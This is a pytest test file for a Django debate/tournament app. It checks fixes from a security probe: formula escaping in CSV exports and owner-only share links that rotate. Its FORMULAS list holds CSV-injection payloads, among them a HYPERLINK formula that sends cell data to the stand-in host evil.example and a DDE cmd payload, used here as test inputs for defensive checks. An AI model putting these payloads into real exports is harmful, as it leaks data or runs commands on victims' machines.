"""What a second black-box probe found (issue 19), each as the probe's request: login throttling, formulas in
CSV exports, share links shown in public, unbounded settings, large request bodies.

The content security policy is checked in the browser (tests/browser/test_csp.py).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from chaoslm.csvsafe import csv_text, safe_cell
from rooms.models import Room
from tests.test_tournament_web import make_tournament
from tests.test_web_access import make_debate
from tournaments.models import Question

pytestmark = pytest.mark.django_db(transaction=True)

KINDS = ["debate", "room", "tournament"]


def make(kind, owner, visibility):
    if kind == "debate":
        return make_debate(owner, visibility)
    if kind == "room":
        return Room.objects.create(title="Chat", owner=owner, visibility=visibility)
    return make_tournament(owner, visibility)


def logged_in(user):
    client = Client()
    client.force_login(user)
    return client


# 2. Formulas in CSV exports.


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_a_question_that_starts_a_formula_is_exported_as_text(people):
    tournament = make_tournament(people["owner"], "private", topics=[*FORMULAS, "\tTabbed", "\rReturned", "Plain?"])
    Question.objects.filter(tournament=tournament, topic="Plain?").update(premise="=1+1")
    body = logged_in(people["owner"]).get(reverse("tournament_export", args=[tournament.pk, "matches.csv"]))
    rows = list(csv.reader(io.StringIO(body.content.decode(), newline="")))
    header, data = rows[0], rows[1:]
    topics = {row[header.index("topic")] for row in data}
    assert topics == {"'" + f for f in FORMULAS} | {"'\tTabbed", "'\rReturned", "Plain?"}
    assert {row[header.index("premise")] for row in data if row[header.index("topic")] == "Plain?"} == {"'=1+1"}


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert csv_text([["name", "rating"], ["-Bob", -1.25], ["Ada", 0.5], ["a=b", 3]]) == (
        "name,rating\r\n'-Bob,-1.25\r\nAda,0.5\r\na=b,3\r\n"
    )
    assert [safe_cell(v) for v in ("", None, 7, "x")] == ["", None, 7, "x"]


# 3. Share links that were shown in public.


@pytest.mark.parametrize("kind", KINDS)
def test_only_the_owner_is_shown_the_share_link(people, kind):
    thing = make(kind, people["owner"], "public")
    detail = reverse(f"{kind}_detail", args=[thing.pk])
    for who, client in [
        ("anonymous", Client()),
        ("other", logged_in(people["other"])),
        ("staff", logged_in(people["staff"])),
    ]:
        page = client.get(detail)
        assert page.status_code == 200, who
        assert thing.share_token not in page.content.decode(), who
    assert thing.share_token in logged_in(people["owner"]).get(detail).content.decode()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("now", ["unlisted", "private"])
def test_a_link_copied_while_it_was_public_stops_working_when_it_stops_being_public(people, kind, now):
    thing = make(kind, people["owner"], "public")
    copied = reverse(f"{kind}_share", args=[thing.share_token])
    stranger = Client()
    assert stranger.get(copied).status_code == 200

    owner = logged_in(people["owner"])
    response = owner.post(reverse(f"{kind}_visibility", args=[thing.pk]), {"visibility": now}, follow=True)
    assert response.status_code == 200
    thing.refresh_from_db()
    assert stranger.get(copied).status_code == 404
    if kind == "tournament":
        export = reverse("tournament_share_export", args=[copied.split("/")[-2], "matches.csv"])
        assert stranger.get(export).status_code == 404
    fresh = reverse(f"{kind}_share", args=[thing.share_token])
    assert fresh != copied
    assert stranger.get(fresh).status_code == (200 if now == "unlisted" else 404)
    # The owner's page shows the new link once there is one to hand out.
    assert (thing.share_token in response.content.decode()) == (now == "unlisted")


@pytest.mark.parametrize("kind", KINDS)
def test_unlisted_to_private_and_back_keeps_the_link(people, kind):
    """Only a public page showed its link to everyone: an unlisted one's link is the owner's to keep."""
    thing = make(kind, people["owner"], "unlisted")
    token = thing.share_token
    owner = logged_in(people["owner"])
    for value in ("private", "unlisted"):
        owner.post(reverse(f"{kind}_visibility", args=[thing.pk]), {"visibility": value})
    thing.refresh_from_db()
    assert thing.share_token == token
    assert Client().get(reverse(f"{kind}_share", args=[token])).status_code == 200
